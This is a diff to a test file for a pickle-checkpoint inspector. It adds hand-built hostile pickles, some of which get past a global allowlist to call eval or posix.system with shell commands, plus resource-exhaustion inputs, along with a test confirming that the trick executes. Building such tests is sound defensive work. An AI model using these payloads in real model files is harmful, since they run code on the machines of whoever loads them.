@@ -5,8 +5,8 @@ code; any global it resolves that inspect neither allowlists nor refuses is a di
 file the real unpickler reads to its end must be judged as a pickle (or refused).
 
 The corpus is synthesized here (``synth_*`` names): polyglots, frame divergences, protocols 0 and
-1 without PROTO, memo and EXT tricks, and every opcode-boundary truncation of a real paddle.save
-file; then a small derandomized hypothesis run."""
+1 without PROTO, memo and EXT tricks, abuse of every allowlisted global, and every opcode-boundary
+truncation of a real paddle.save file; then a small derandomized hypothesis run."""
 
 from __future__ import annotations
 
@@ -56,6 +56,8 @@ def divergence(path: Path, seen: dict) -> str | None:
     for module, name in seen["globals"]:
         if not _allowlisted(module, name, protocol):
             return f"the real unpickler resolves {module}.{name}, inspect says {sorted(kinds)}"
+    if seen.get("foreign_evals"):
+        return f"the real unpickler calls builtins.eval with any text, inspect says {sorted(kinds)}"
     if seen["outcome"] == "completed" and facts["format"] != "pickle":
         return f"pickle.load reads it to its end, inspect calls it {facts['format']}"
     return None
@@ -128,6 +130,73 @@ def synth_memo_ext() -> dict[str, bytes]:
     }
 
 
+def _t(text: str) -> bytes:
+    data = text.encode()
+    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else \
+        b"\x8d" + struct.pack("<Q", len(data)) + data
+
+
+def _g(module: str, name: str) -> bytes:
+    return _t(module) + _t(name) + b"\x93"
+
+
+def synth_allowlist_abuse() -> dict[str, bytes]:
+    """Every allowlisted global called with arguments meant to cost or harm, each alone and with
+    a refused call after it (``_then_system``). The ``trick_`` ones run code under pickle.load
+    with allowlisted globals only: an OrderedDict takes instance attributes, and the unpickler's
+    BUILD/APPEND/APPENDS/ADDITEMS look ``__setstate__``/``append``/``extend``/``add`` up on the
+    instance, so ``eval`` stored there is called with any text."""
+    od = _g("collections", "OrderedDict") + b")R"
+    ev = _g("builtins", "eval")
+    code = _t("__import__('os').system('echo pwned')")
+    arr = _g("numpy.core.multiarray", "_reconstruct") + _g("numpy", "ndarray") + \
+        b"K\x00\x85C\x01b\x87R"
+    f4 = _g("numpy", "dtype") + _t("f4") + b"\x89\x88\x87R(K\x03\x8c\x01<NNNJ\xff\xff\xff\xffJ" \
+        b"\xff\xff\xff\xffK\x00tb"
+    huge = b"\x8a\x08" + struct.pack("<q", 2 ** 62)
+    calls = {
+        "trick_setstate_eval": od + b"}" + _t("__setstate__") + ev + b"sb" + code + b"b",
+        "trick_append_eval": od + b"}" + _t("append") + ev + b"sb" + code + b"a",
+        "trick_extend_eval": od + b"}" + _t("extend") + ev + b"sb(" + code + b"e",
+        "trick_add_eval": od + b"}" + _t("add") + ev + b"sb(" + code + b"\x90",
+        "trick_slotstate_eval": od + b"N}" + _t("__setstate__") + ev + b"s\x86b" + code + b"b",
+        "trick_memo_eval": ev + b"\x940}" + _t("x") + b"h\x00s",
+        "trick_eval_in_args": _g("builtins", "tuple") + ev + b"\x85\x85R",
+        "od_not_pairs": _g("collections", "OrderedDict") + b"]K\x01K\x02K\x03\x87a\x85R",
+        "od_newobj_kwargs": _g("collections", "OrderedDict") + b")}" + _t("a") + b"K\x01s\x92",
+        "od_build_list": od + b"]K\x01ab",
+        "reconstruct_huge_shape": arr + b"(K\x01" + huge + huge + b"\x86" + f4 + b"\x89C\x00tb",
+        "reconstruct_other_class": _g("numpy.core.multiarray", "_reconstruct") + od[:-2] +
+                                   b"K\x00\x85C\x01b\x87R",
+        "dtype_long_code": _g("numpy", "dtype") + _t("f4" * 200) + b"\x85R",
+        "dtype_itemsize_huge": f4[:-1] + b"0" + _g("numpy", "dtype") + _t("V8") + b"\x85R(K\x03"
+                               b"\x8c\x01|NNNJ\xff\xff\xff\x7fK\x01K\x00tb",
+        "object_array_of_system": arr + b"(K\x01K\x01\x85" + _g("numpy", "dtype") + _t("O8") +
+                                  b"\x85R]" + _g("posix", "system") + b"a\x89tb",
+        "scalar_wrong_size": _g("numpy.core.multiarray", "scalar") + f4 + _t("x" * 300) + b"\x86R",
+        "codecs_rot13": _g("_codecs", "encode") + _t("payload") + _t("rot13") + b"\x86R",
+        "codecs_big_text": _g("_codecs", "encode") + _t("x" * 100_000) + _t("latin1") + b"\x86R",
+        "bytes_huge_count": _g("builtins", "bytes") + huge + b"\x85R",
+        "bytearray_of_list": _g("builtins", "bytearray") + b"]K\x01a\x85R",
+        "set_shared_tuples": _g("builtins", "set") + b"])\x94" + b"0h\x00h\x00\x86\x94" +
+                             b"".join(b"0h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x94"
+                                      for i in range(1, 20)) + b"a\x85R",
+        "dict_from_non_pairs": _g("builtins", "dict") + b"]K\x01a\x85R",
+        "frozenset_of_lists": _g("builtins", "frozenset") + b"]]a\x85R",
+        "list_of_laughs": _g("builtins", "list") + b"]" + b"\x94(h\x00h\x00h\x00e" * 3 + b"\x85R",
+        "eval_other_text": ev + _t("data") + b"}" + _t("data") + b"K\x01s" + _t("__builtins__") +
+                           b"}s\x86R",
+        "generator_state_odd": _g("paddle.base.libpaddle", "GeneratorState") + b")\x81" +
+                               b"}" + _t("__setstate__") + ev + b"sb",
+    }
+    tail = _g("posix", "system") + _t("echo pwned") + b"\x85R"
+    files = {}
+    for name, call in calls.items():
+        files[f"synth_abuse_{name}"] = b"\x80\x04](" + call + b"e."
+        files[f"synth_abuse_{name}_then_system"] = b"\x80\x04](" + call + tail + b"e."
+    return files
+
+
 def _truncations(data: bytes) -> list[int]:
     return sorted({pos for _, _, pos in pickletools.genops(data) if pos} | {len(data) - 1})
 
@@ -136,7 +205,7 @@ def _truncations(data: bytes) -> list[int]:
 def corpus(tmp_path_factory) -> list[Path]:
     root = tmp_path_factory.mktemp("oracle")
     files = {"synth_polyglot.safetensors": synth_polyglot()}
-    for group in (synth_frames(), synth_protocols(), synth_memo_ext()):
+    for group in (synth_frames(), synth_protocols(), synth_memo_ext(), synth_allowlist_abuse()):
         files.update({f"{k}.pdparams": v for k, v in group.items()})
     real = real_checkpoints() / "dygraph.pdparams"
     data = real.read_bytes()
@@ -175,6 +244,25 @@ def test_protocols_0_and_1_without_proto_are_pickles(tmp_path):
         assert read_file(str(path)).facts["format"] == "pickle", name
 
 
+def test_eval_stored_in_an_ordereddict_runs_code_and_is_refused(tmp_path):
+    """The attack is real: allowlisted globals only, and pickle.load runs the command (an
+    OrderedDict's instance __setstate__ is eval). inspect refuses it (PD804), the oracle sees it."""
+    marker = tmp_path / "pwned"
+    code = f"__import__('os').system('touch {marker}')"
+    trick = synth_allowlist_abuse()["synth_abuse_trick_setstate_eval"].replace(
+        _t("__import__('os').system('echo pwned')"), _t(code))
+    path = tmp_path / "synth_trick.pdparams"
+    path.write_bytes(trick)
+    facts = read_file(str(path)).facts
+    assert [p["kind"] for p in facts["problems"]] == ["refused"]
+    assert facts["problems"][0]["global"] == "builtins.eval"
+    assert not marker.exists()
+    assert run_oracle([path])[str(path)]["foreign_evals"] == 1
+    subprocess.run([sys.executable, "-c", "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
+                    str(path)], check=True, timeout=60)
+    assert marker.exists()
+
+
 def test_no_divergence_over_the_hostile_corpus(corpus):
     check_all(corpus)
 
@@ -182,7 +270,9 @@ def test_no_divergence_over_the_hostile_corpus(corpus):
 @settings(max_examples=150, derandomize=True, deadline=None,
           suppress_health_check=list(HealthCheck))
 @given(st.lists(st.sampled_from(sorted({*synth_frames().values(), *synth_protocols().values(),
-                                         *synth_memo_ext().values()})), min_size=1, max_size=3),
+                                         *synth_memo_ext().values(),
+                                         *synth_allowlist_abuse().values()})),
+                min_size=1, max_size=3),
        st.binary(max_size=12), st.integers(0, 40))
 def test_no_divergence_over_fuzzed_splices(tmp_path_factory, parts, noise, cut):
     """Splices of hostile pickles, noise and a cut: the C unpickler and inspect must agree."""
